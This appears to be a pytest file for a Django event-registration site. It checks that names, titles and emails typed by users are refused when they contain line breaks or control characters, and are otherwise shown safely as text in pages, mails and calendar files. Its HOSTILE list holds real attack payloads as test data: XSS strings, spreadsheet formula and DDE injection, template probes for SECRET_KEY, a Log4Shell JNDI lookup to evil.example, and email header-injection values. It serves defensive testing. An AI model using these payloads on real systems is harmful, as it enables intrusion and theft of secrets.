"""What people type to break things, and the names of real people, which must not break."""

from urllib.parse import urlencode
from xml.etree.ElementTree import Element

import html5lib
import pytest
from django.http import HttpResponse
from django.test import Client
from django.urls import reverse
from icalendar import Calendar
from time_machine import TimeMachineFixture

from accounts.names import has_web_address
from events import calendars, messages, registering
from events.forms.registering import RegistrationForm
from events.models import Registration, Session
from mailing import letters
from mailing.models import Message
from tests.build import NOW, make_agenda_item, make_registration, make_session, make_speaker
from tests.page import CheckedClient

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example","klik")',
    "+1+cmd|' /C calc'!A0",
    "-1",
    "@SUM(1+1)",
    "＝1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><b>'vet'</b>",
    "</title><script>alert(1)</script>",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{0.__class__}",
    "%s %(title)s %n 100%",
    "a;b,c\\d\\n END:VEVENT",
    "&lt;script&gt; &amp; &nbsp;",
    "${jndi:ldap://evil.example/a}",
    "[x](javascript:alert(1))",
]
REAL = [
    "Ó Súilleabháin",
    "Jan van den Bossche",
    "Plato",
    "Jean d’Hondt",
    "Jean d'Hondt",
    "Anne-Marie Ö. Şahin-Đặng",
    "李小龙",
    "Дмитрий Иванович",
    "محمد",
    "X" * 70,
    "Wolfeschlegelsteinhausenbergerdorff " * 4,
]
BROKEN = [
    "Jan\r\nBcc: everybody@example.org",
    "Jan\nPeeters",
    "Jan\rPeeters",
    "Jan\x00Peeters",
    "Jan\x0bPeeters",
    "Jan\x85Peeters",
    "Jan\u2028Peeters",
    "Jan\u2029Peeters",
    "Jan\x1b[31mPeeters",
]
ONE_LINE_FIELDS = ["name", "organisation_name", "job_title"]


def answers(**fields: str) -> dict[str, str]:
    return {
        "name": "Jan Peeters",
        "email": "jan@example.org",
        "organisation_name": "Stad Voorbeeld",
        "job_title": "",
        "language": "nl",
        "form_token": "form-1",
    } | fields


@pytest.fixture(autouse=True)
def _in_may_2027(time_machine: TimeMachineFixture) -> None:
    time_machine.move_to(NOW, tick=False)


def reader(text: str) -> Client:
    """A visitor whose pages are checked, except for template syntax where it was typed."""
    return Client() if "{%" in text else CheckedClient()


def send(client: Client, session: Session, **fields: str) -> HttpResponse:
    return client.post(
        reverse("portal:register", kwargs={"slug": session.slug}),
        urlencode(answers(**fields)),
        content_type="application/x-www-form-urlencoded",
    )


def text_of(html: str) -> str:
    """What a reader sees: the text of a page, spaces joined."""
    root: Element = html5lib.parse(html)
    return " ".join("".join(root.itertext()).split())


def shown(text: str) -> str:
    return " ".join(text.split())


# Refused -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("field", ONE_LINE_FIELDS)
@pytest.mark.parametrize("text", BROKEN)
def test_register_with_a_line_end_or_control_character_saves_and_sends_nothing(
    text: str, field: str
) -> None:
    # Not checked: the form comes back with the character that no page should hold.
    response = send(Client(), make_session(), **{field: text})

    assert response.status_code == 422
    assert not Registration.objects.exists()
    assert not Message.objects.exists()


@pytest.mark.parametrize(
    "email",
    [
        "jan@example.org\r\nBcc: an@example.org",
        "jan@example.org\nan@example.org",
        "jan@example.org,an@example.org",
        "jan@example.org;an@example.org",
        "Jan <jan@example.org>",
        "jan@example.org an@example.org",
        "jan@@example.org",
        "jan",
        "@example.org",
        '"jan peeters"@example.org',
        "jan@example.org\x00",
        "a" * 250 + "@example.org",
    ],
)
def test_register_with_what_is_not_one_address_saves_and_sends_nothing(email: str) -> None:
    response = send(Client(), make_session(), email=email)

    assert response.status_code == 422
    assert not Registration.objects.exists()
    assert not Message.objects.exists()


@pytest.mark.parametrize("field", [*ONE_LINE_FIELDS, "form_token"])
def test_register_with_more_than_fits_saves_nothing(client: CheckedClient, field: str) -> None:
    response = send(client, make_session(), **{field: "x" * 201})

    assert response.status_code == 422
    assert not Registration.objects.exists()


@pytest.mark.parametrize("language", ["de", "", "nl'--", "../nl"])
def test_register_in_a_language_we_do_not_have_saves_nothing(
    client: CheckedClient, language: str
) -> None:
    response = send(client, make_session(), language=language)

    assert response.status_code == 422
    assert not Registration.objects.exists()


def test_refused_form_keeps_what_was_typed(client: CheckedClient) -> None:
    response = send(client, make_session(), name="<b>Jan</b>", email="jan")

    assert 'value="&lt;b&gt;Jan&lt;/b&gt;"' in response.content.decode()


# Accepted, and shown as text ---------------------------------------------------------------------


@pytest.mark.parametrize("text", [*HOSTILE, *REAL])
def test_register_keeps_a_name_as_it_was_typed(client: CheckedClient, text: str) -> None:
    response = send(client, make_session(), name=text, organisation_name=text, job_title=text)

    assert response.status_code == 302
    registration = Registration.objects.get()
    assert (registration.name, registration.organisation_name, registration.job_title) == (
        shown(text),
        text.strip(),
        text.strip(),
    )


@pytest.mark.parametrize("text", [*HOSTILE, *REAL])
def test_page_of_a_registration_shows_a_name_as_text(text: str) -> None:
    registration = make_registration(make_session(), name=text, organisation_name=text)

    page = reader(text).get(registration.get_absolute_url()).content.decode()

    assert text_of(page).count(shown(text)) >= 2
    assert "<script>alert" not in page
    assert "<img src=x" not in page


@pytest.mark.parametrize("text", [text for text in [*HOSTILE, *REAL] if not has_web_address(text)])
@pytest.mark.parametrize("kind", ["registered", "cancelled"])
def test_mail_shows_a_name_as_text_in_both_parts(kind: str, text: str) -> None:
    registration = make_registration(make_session(), name=text)
    if kind == "cancelled":
        registering.cancel(registration, now=NOW, by=Registration.CancelledBy.OWNER)
    message = Message.objects.get(object_id=registration.pk, kind=f"events.{kind}")

    plain, html = letters.render(messages.compose(message, NOW))

    assert shown(text) in shown(plain)
    assert shown(text) in text_of(html)
    assert "<script>" not in html
    assert "<img src=x" not in html


@pytest.mark.parametrize("text", [*HOSTILE, *REAL])
def test_mail_shows_a_title_as_text_in_subject_and_both_parts(text: str) -> None:
    title = text.strip()[:200]
    registration = make_registration(make_session(title=title))
    message = Message.objects.get(object_id=registration.pk)

    letter = messages.compose(message, NOW)
    mail = letters.mail_of(letter, message_id="<1@example.org>")
    plain, html = letters.render(letter)

    assert mail.subject.endswith(shown(title))
    assert mail.message()["Subject"]
    assert shown(title) in shown(plain)
    assert shown(title) in text_of(html)
    assert "<script>" not in html


@pytest.mark.parametrize("text", [*HOSTILE, *REAL])
def test_calendar_brings_names_and_titles_back_as_they_were(text: str) -> None:
    title = text.strip()[:200]
    session = make_session(title=title, summary=text)
    make_speaker(make_agenda_item(session, title=title), name=text.strip()[:100])
    registration = make_registration(session, name=text)

    part = calendars.request(registration, now=NOW)

    (event,) = Calendar.from_ical(part.content).events
    assert str(event["summary"]) == title
    assert title in str(event["description"])
    assert text.strip()[:100] in str(event["description"])
    # A parameter cannot hold a double quote (RFC 5545 section 3.1).
    assert event["attendee"].params["CN"] == shown(text).replace('"', "'")


@pytest.mark.parametrize("text", HOSTILE)
def test_page_of_a_session_shows_what_an_organiser_typed_as_text(text: str) -> None:
    session = make_session(title=text, summary=text, venue=text, audience=text, contact_name=text)
    make_speaker(make_agenda_item(session, title=text), name=text, role=text)

    page = reader(text).get(session.get_absolute_url()).content.decode()

    assert text_of(page).count(text) >= 5
    assert "<script>alert" not in page
    assert "<img src=x" not in page


@pytest.mark.parametrize("text", HOSTILE)
def test_list_of_sessions_shows_titles_and_searches_as_text(text: str) -> None:
    make_session(title=text)

    page = reader(text).get(reverse("events:sessions"), {"q": text}).content.decode()

    assert text in text_of(page)
    assert "<script>alert" not in page


def test_page_after_registering_shows_the_address_as_text(client: CheckedClient) -> None:
    response = send(client, make_session(), email="o'neil&copy@example.org")

    page = client.get(response.headers["Location"]).content.decode()

    assert "o'neil&copy@example.org" in text_of(page)


def test_form_turns_every_control_character_away() -> None:
    control = [chr(code) for code in [*range(32), *range(127, 160)]]

    passed = [
        character
        for character in control
        if RegistrationForm(answers(name=f"Jan{character}Peeters"), consent_texts=[]).is_valid()
    ]

    assert passed == []


@pytest.mark.parametrize("address", ["events:sessions", "events:sessions-calendar"])
@pytest.mark.parametrize("parameter", ["q", "theme", "period", "page"])
def test_list_of_sessions_survives_a_question_with_a_nul_in_it(
    parameter: str, address: str
) -> None:
    make_session()

    response = Client().get(reverse(address), {parameter: "a\x00b"})

    assert response.status_code == 200
